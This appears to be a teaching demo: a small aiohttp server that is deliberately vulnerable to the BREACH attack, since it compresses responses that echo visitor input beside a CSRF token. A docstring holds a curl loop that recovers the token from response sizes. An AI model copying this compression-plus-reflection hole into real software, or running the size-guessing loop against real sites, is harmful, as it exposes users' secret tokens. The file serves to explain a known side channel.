"""Compression of everything: the length of an answer tells a secret.

Where a visitor's words stand beside a secret, a right guess repeats what is
there, and the answer gets shorter (BREACH). Who can make a browser ask, and see
how long the encrypted answers are, finds the secret letter by letter.

Try it::

    $ for q in 7f3d90 7f3d91 7f3d92 7f3d9a 7f3d9b; do \\
        curl -o /dev/null -w "$q %{size_download}\\n" \\
        -H "Accept-Encoding: gzip" "localhost:8080/secret?q=csrf=$q"; \\
      done | sort -k 2n | head -n 1 | cut -c 1-6
    7f3d9a
"""

import os

from aiohttp import web
from aiohttp.typedefs import Handler

routes = web.RouteTableDef()


@web.middleware
async def shrink(request: web.Request, handler: Handler) -> web.StreamResponse:
    response = await handler(request)
    response.enable_compression()  # wrong
    return response


@routes.get("/secret")
async def search(request: web.Request) -> web.Response:
    """Repeat the visitor's words beside a secret."""
    words = request.query.get("q", "")
    return web.Response(text=f"<p>Found for {words}</p><i>csrf=7f3d9a</i>" * 2)


def create_app() -> web.Application:
    app = web.Application(middlewares=[shrink])
    app.add_routes(routes)
    return app


if __name__ == "__main__":
    port = int(os.environ.get("PORT", "8080"))
    web.run_app(create_app(), host="127.0.0.1", port=port, shutdown_timeout=5)
